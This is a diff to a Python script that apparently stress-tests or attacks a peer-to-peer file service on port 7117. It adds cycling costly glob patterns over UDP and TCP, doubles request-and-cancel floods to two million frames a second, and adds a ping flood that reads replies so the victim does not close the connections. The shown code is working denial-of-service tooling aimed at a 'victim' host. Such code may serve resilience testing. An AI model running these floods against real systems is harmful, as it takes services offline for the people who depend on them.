@@ -20,8 +20,8 @@ PORT = 7117
 SECONDS_MAX = 240
 QUERY_BYTES = 1200
 CHANNELS_MAX, BATCH, REFUSAL_BYTES = 20_000, 100, 38
-# A pattern over the limits of a careful reader: a star, and brackets that each cost a look at a long list.
-PATTERN = "*" + ("[!" + "~" * 60 + "]") * 12 + "~"
+# Costly patterns: brackets longer than a peer should take, the longest that it takes, and the most stars.
+PATTERNS = ["*" + ("[!" + "~" * 60 + "]") * 12 + "~", "*" + ("[!" + "~" * 20 + "]") * 12 + "~", "*e" * 63 + "~"]
 
 
 # --- what is on the wire ----------------------------------------------------------------------------------------------------
@@ -176,15 +176,15 @@ def globs_udp(victim, attack):
     """Queries with costly patterns, each of a peer of its own."""
     sock, pace = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), Pace(10)
     ready()
-    while True:
+    for pattern in itertools.cycle(PATTERNS):
         pace.wait()
-        sock.sendto(query(peer_id(), {"glob": PATTERN}), (victim, PORT))
+        sock.sendto(query(peer_id(), {"glob": pattern}), (victim, PORT))
 
 
 def globs_tcp(victim, attack):
     """Requests for a catalogue with costly patterns, on four connections."""
     pace, socks = Pace(10), []
-    asked = frame(0x02, json.dumps({"wanted": {"glob": PATTERN}}).encode())
+    asked = [frame(0x02, json.dumps({"wanted": {"glob": pattern}}).encode()) for pattern in PATTERNS]
     ready()
     for at in itertools.count():
         pace.wait()
@@ -194,7 +194,7 @@ def globs_tcp(victim, attack):
                 socks[-1].sendall(hello(peer_id()))
                 socks[-1].setblocking(False)
             sock = socks[at % len(socks)]
-            sock.send(asked)
+            sock.send(asked[at % len(asked)])
             sock.recv(1 << 20)
         except BlockingIOError:
             pass
@@ -265,22 +265,32 @@ def idle(victim, attack):
                 held[key.data] -= 1
 
 
-def flood_frames(victim, attack, frames, per_second):
-    """The same frames over and over, so many a second on all connections together; nothing that comes is read."""
+def flood_frames(victim, attack, frames, per_second, reads=False):
+    """The same frames over and over, so many a second on all connections together."""
     count, content = int(attack["connections"]), bytes.fromhex(attack["content"])
 
     def flood():
         while True:
             try:
-                sock = dial(victim, receive_bytes=4_096)
+                # Chunks that are not read do not share the victim's link.
+                sock = dial(victim, receive_bytes=None if reads else 4_096)
                 sock.settimeout(None)
                 sock.sendall(hello(peer_id()) + opening(0, content))
+                if reads:
+                    threading.Thread(target=read_on, args=[sock], daemon=True).start()
                 pace = Pace(per_second / count)
                 while True:
                     pace.wait(len(frames))
                     sock.sendall(b"".join(frames))
             except OSError:
                 time.sleep(0.1)
+
+    def read_on(sock):
+        try:
+            while sock.recv(1 << 16):
+                pass
+        except OSError:
+            pass
 
     for _ in range(count):
         threading.Thread(target=flood, daemon=True).start()
@@ -290,14 +300,13 @@ def flood_frames(victim, attack, frames, per_second):
 
 
 def requests(victim, attack):
-    """Requests that are taken back at once, 1,000,000 frames (104 Mbit) a second."""
-    flood_frames(victim, attack, [kind(chunk) for chunk in range(64) for kind in (request, cancel)] * 16, 1_000_000)
+    """Requests that are taken back at once, 2,000,000 frames (208 Mbit) a second."""
+    flood_frames(victim, attack, [kind(chunk) for chunk in range(64) for kind in (request, cancel)] * 16, 2_000_000)
 
 
-def requests_and_pings(victim, attack):
-    """The same with pings among them."""
-    frames = [part for chunk in range(64) for part in (request(chunk), PING, cancel(chunk), PING)] * 8
-    flood_frames(victim, attack, frames, 1_000_000)
+def pings(victim, attack):
+    """Pings, 2,000,000 (80 Mbit) a second; the answers are read, else the connections would be closed."""
+    flood_frames(victim, attack, [PING] * 2_048, 2_000_000, reads=True)
 
 
 def complaints(victim, attack):
@@ -432,7 +441,7 @@ def endless(victim, attack):
 ATTACKS = {
     attack.__name__.replace("_", "-"): attack
     for attack in (
-        globs_udp, globs_tcp, name_used, invented, idle, requests, requests_and_pings, complaints, channels, junk, impostor, endless,
+        globs_udp, globs_tcp, name_used, invented, idle, requests, pings, complaints, channels, junk, impostor, endless,
     )
 }  # fmt: skip
 
